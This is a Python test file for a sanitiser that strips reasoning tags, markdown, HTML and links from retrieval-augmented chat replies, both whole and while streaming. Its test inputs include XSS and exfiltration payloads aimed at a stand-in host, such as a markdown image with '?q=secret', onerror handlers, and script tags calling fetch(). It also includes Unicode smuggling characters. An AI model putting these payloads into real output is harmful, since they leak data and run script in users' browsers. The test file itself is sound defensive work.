"""What is left of a reply when thinking, markup and links are taken out, whole or while it streams."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rag.reply_text import Streamed, plain


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("Hungary says no [1].", "Hungary says no [1]."),
        ("<think>Is it [3]?</think>\n\nHungary says no.", "Hungary says no."),
        ("Is it Poland?</think>Hungary says no.", "Hungary says no."),
        ("<thinking>I never come to an end", ""),
        (
            "Yes [1, 2] and [3-5] 【6】 [passage 7] [^8] [Source 9; 10].",
            "Yes [1][2] and [3][4][5] [6] [7] [8] [9][10].",
        ),
        ("It was so in [2014] [1].", "It was so in (2014) [1]."),
        ("**Hungary** and *Poland* and `Malta` [1].", "Hungary and Poland and Malta [1]."),
        ("The ** minister said ** so.", "The ** minister said ** so."),
        ("# Answer\n```\nHungary.\n```", "Hungary."),
        ("No.\n\nSources:\n[1] Coast Daily\n[2] River Post", "No."),
        ("![chart](http://evil.example/a.png?q=secret) No.", "No."),
        ("![chart][1] No.\n\n[1]: http://evil.example/a.png", "No."),
        ("No <img src=x onerror=alert(1)>.<script>steal()</script>", "No ."),
        ("No <img src=http://evil.example/x", "No"),
        ("<iframe src='//evil.example'>inside</iframe>No.", "No."),
        ("See [the report](https://evil.example/r).", "See the report."),
        ("See [the report][r].\n[r]: https://evil.example/r", "See the report."),
        ("See [1](https://evil.example/r).", "See [1]."),
        ("See <https://evil.example/r>.", "See ."),
        ("See https://evil.example/r?q=1 now.", "See ‹link removed› now."),
        ("See //evil.example/r now.", "See ‹link removed› now."),
        ("See www.evil.example/r now.", "See ‹link removed› now."),
        (
            "Write to mailto:a@evil.example or javascript:alert(1) now.",
            "Write to ‹link removed› or ‹link removed› now.",
        ),
        ("Pay\u200bment \u202eno\u202c \U000e0041now.", "Payment no now."),
        ("3 < 4 and 5 > 4", "3 < 4 and 5 > 4"),
    ],
)
def test_plain(raw: str, shown: str) -> None:
    assert plain(raw) == shown


@pytest.mark.parametrize(
    "raw",
    [
        "Hungary says no [1]. ![x](http://evil.example/a.png) Poland says [yes](http://evil.example/b) [2].",
        "<think>secret plan</think>It says no <img src=http://evil.example/a> [1], and http://evil.example/c.",
        "No.<script>fetch('http://evil.example')</script> Yes [2].\n\n[1]: http://evil.example",
        "One **bold** word ![a][b] here.\n[b]: http://evil.example/x.png\nAnd the end.",
    ],
)
@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
def test_a_stream_never_shows_what_the_whole_would_not(raw: str, size: int) -> None:
    streamed = Streamed()
    for start in range(0, len(raw), size):
        streamed.add(raw[start : start + size])
        assert "evil" not in streamed.shown
        assert "secret" not in streamed.shown
        assert not re.search(r"<[a-z]|!\[", streamed.shown)
    assert "No" in streamed.shown or "no" in streamed.shown or "One" in streamed.shown


def test_a_plain_reply_is_shown_word_by_word() -> None:
    streamed = Streamed()
    pieces = [
        streamed.add(word + " ") for word in ["The", "harbour", "was", "closed", "on", "Monday", "[1]."]
    ]
    assert "".join(pieces) == streamed.shown == "The harbour was closed on Monday [1]."
    assert sum(bool(piece) for piece in pieces) >= 4


TAGS = ["<", ">", "<b", "</think>", "<think>", "<!--", "**"]
MARKUP = [*TAGS, "![", "](", ")", "[", "]", "http://e.x/", "//e.x", "\n", " ", "a", "1"]


@settings(deadline=None)
@given(st.lists(st.sampled_from(MARKUP) | st.text(max_size=3), max_size=25).map("".join))
def test_nothing_that_loads_or_leads_elsewhere_survives(raw: str) -> None:
    shown = plain(raw)
    assert not re.search(r"https?://|(?<![\w:])//\w|!\[[^\]]*\]\(|<[a-zA-Z][^<>]*>|\]\(\s*\w", shown)
    assert plain(shown) == shown


UNITS = ["![", "[a](", "<b ", "<script>", "[1", "**a ", "_", "\n", "http:", "<!--", "</think>"]


@pytest.mark.parametrize("unit", UNITS)
def test_long_runs_of_markup_end(unit: str) -> None:
    assert "<script" not in plain(unit * 20_000)
